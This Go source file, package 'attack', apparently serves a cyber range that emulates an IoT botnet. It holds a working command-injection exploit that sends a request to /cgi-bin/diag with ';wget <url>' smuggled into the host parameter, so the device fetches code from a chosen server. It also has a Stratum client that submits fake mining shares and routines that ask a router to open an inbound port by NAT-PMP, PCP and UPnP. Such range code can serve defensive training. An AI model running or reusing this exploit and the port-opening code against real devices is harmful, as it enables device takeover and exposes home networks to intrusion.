package attack

import (
	"bufio"
	"context"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"net/url"
	"strings"
	"time"
)

// ExploitConfig says which device to send a hidden command, and what it should fetch.
type ExploitConfig struct {
	Target netip.AddrPort `json:"target"`
	Fetch  string         `json:"fetch"`
}

// ExploitResult tells what came of it.
type ExploitResult struct {
	Answered bool   `json:"answered"`
	Fetched  bool   `json:"fetched"` // the device says that it did as it was told
	Error    string `json:"error,omitempty"`
}

// Exploit sends one request whose parameter hides a command, as worms do that
// do not guess passwords.
func Exploit(ctx context.Context, c ExploitConfig) (ExploitResult, error) {
	if !c.Target.IsValid() || !strings.HasPrefix(c.Fetch, "http://") {
		return ExploitResult{}, fmt.Errorf("exploiting %s to fetch %q: out of bounds", c.Target, c.Fetch)
	}
	ctx, cancel := context.WithTimeout(ctx, 15*time.Second)
	defer cancel()
	target := "http://" + c.Target.String() + "/cgi-bin/diag?host=" + url.QueryEscape("127.0.0.1;wget "+c.Fetch)
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, target, nil)
	if err != nil {
		return ExploitResult{}, err
	}
	hc := http.Client{Transport: &http.Transport{DisableKeepAlives: true}}
	resp, err := hc.Do(req)
	if err != nil {
		return ExploitResult{Error: err.Error()}, nil
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 4096))
	r := ExploitResult{Answered: true, Fetched: strings.Contains(string(b), "saved")}
	if err != nil {
		r.Error = err.Error()
	}
	return r, nil
}

// MineConfig says at which pool to mine.
type MineConfig struct {
	To       netip.AddrPort `json:"to"`
	Duration time.Duration  `json:"duration"`
}

// MineResult tells how it went.
type MineResult struct {
	Subscribed bool   `json:"subscribed"`
	Shares     uint64 `json:"shares"` // handed in and answered
	Error      string `json:"error,omitempty"`
}

// Mine speaks Stratum with a pool of the range, and computes nothing.
func Mine(ctx context.Context, c MineConfig) (r MineResult, err error) {
	if !c.To.IsValid() || c.Duration <= 0 || c.Duration > maxDuration {
		return r, fmt.Errorf("mining at %s for %s: out of bounds", c.To, c.Duration)
	}
	ctx, cancel := context.WithTimeout(ctx, c.Duration)
	defer cancel()
	d := net.Dialer{Timeout: callTimeout}
	conn, err := d.DialContext(ctx, "tcp4", c.To.String())
	if err != nil {
		r.Error = err.Error()
		return r, nil
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { conn.Close() })()
	in := bufio.NewReaderSize(conn, 1024)
	ask := func(text string) bool {
		if _, err := io.WriteString(conn, text+"\n"); err != nil {
			r.Error = err.Error()
			return false
		}
		_ = conn.SetReadDeadline(time.Now().Add(callTimeout))
		_, err := in.ReadSlice('\n')
		return err == nil
	}
	r.Subscribed = ask(`{"id": 1, "method": "mining.subscribe", "params": ["range/1.0"]}`)
	for n := 2; r.Subscribed && pause(ctx, 300*time.Millisecond); n++ {
		if !ask(fmt.Sprintf(`{"id": %d, "method": "mining.submit", "params": ["range", "0", "%08x"]}`, n, n)) {
			break
		}
		r.Shares++
	}
	return r, nil
}

// MapConfig says which router to ask for a way in.
type MapConfig struct {
	Router netip.Addr `json:"router"`
	Port   uint16     `json:"port"` // of the asking device
}

// MapResult tells what was asked and what was granted.
type MapResult struct {
	Asked   []string `json:"asked"`
	Granted []string `json:"granted"`
}

// Map asks the router to open a port towards the device, by NAT-PMP, PCP and
// UPnP, as many cameras do by factory setting.
func Map(ctx context.Context, c MapConfig) (MapResult, error) {
	if !c.Router.Is4() || c.Port == 0 {
		return MapResult{}, fmt.Errorf("asking %s for port %d: out of bounds", c.Router, c.Port)
	}
	ctx, cancel := context.WithTimeout(ctx, 10*time.Second)
	defer cancel()
	var r MapResult
	note := func(name string, granted bool) {
		r.Asked = append(r.Asked, name)
		if granted {
			r.Granted = append(r.Granted, name)
		}
	}
	pmp := binary.BigEndian.AppendUint16([]byte{0, 2, 0, 0}, c.Port) // RFC 6886 section 3.3
	pmp = binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(pmp, c.Port), 3600)
	b := datagram(ctx, netip.AddrPortFrom(c.Router, 5351), pmp)
	note("NAT-PMP", len(b) >= 16 && b[1] == 130 && binary.BigEndian.Uint16(b[2:]) == 0)
	pcp := make([]byte, 60) // RFC 6887 section 11.1
	pcp[0], pcp[1], pcp[36] = 2, 1, 6
	binary.BigEndian.PutUint32(pcp[4:], 3600)
	binary.BigEndian.PutUint16(pcp[40:], c.Port)
	b = datagram(ctx, netip.AddrPortFrom(c.Router, 5351), pcp)
	note("PCP", len(b) >= 60 && b[1] == 129 && b[3] == 0)
	b = datagram(ctx, netip.AddrPortFrom(c.Router, 1900), []byte("M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\nST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n\r\n"))
	note("SSDP", len(b) > 0)
	note("UPnP", soap(ctx, c))
	return r, nil
}

// datagram sends one datagram and answers what comes back within a moment.
func datagram(ctx context.Context, to netip.AddrPort, text []byte) []byte {
	var d net.Dialer
	conn, err := d.DialContext(ctx, "udp4", to.String())
	if err != nil {
		return nil
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(500 * time.Millisecond))
	if _, err := conn.Write(text); err != nil {
		return nil
	}
	b := make([]byte, 1500)
	n, _ := conn.Read(b)
	return b[:n]
}

func soap(ctx context.Context, c MapConfig) bool {
	body := fmt.Sprintf(`<?xml version="1.0"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><u:AddPortMapping xmlns:u="urn:schemas-upnp-org:service:WANIPConnection:1"><NewExternalPort>%d</NewExternalPort><NewProtocol>TCP</NewProtocol><NewInternalPort>%d</NewInternalPort><NewEnabled>1</NewEnabled><NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>`, c.Port, c.Port)
	ctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+netip.AddrPortFrom(c.Router, 5000).String()+"/ctl/IPConn", strings.NewReader(body))
	if err != nil {
		return false
	}
	req.Header.Set("SOAPAction", `"urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping"`)
	hc := http.Client{Transport: &http.Transport{DisableKeepAlives: true}}
	resp, err := hc.Do(req)
	if err != nil {
		return false
	}
	defer resp.Body.Close()
	return resp.StatusCode == http.StatusOK
}
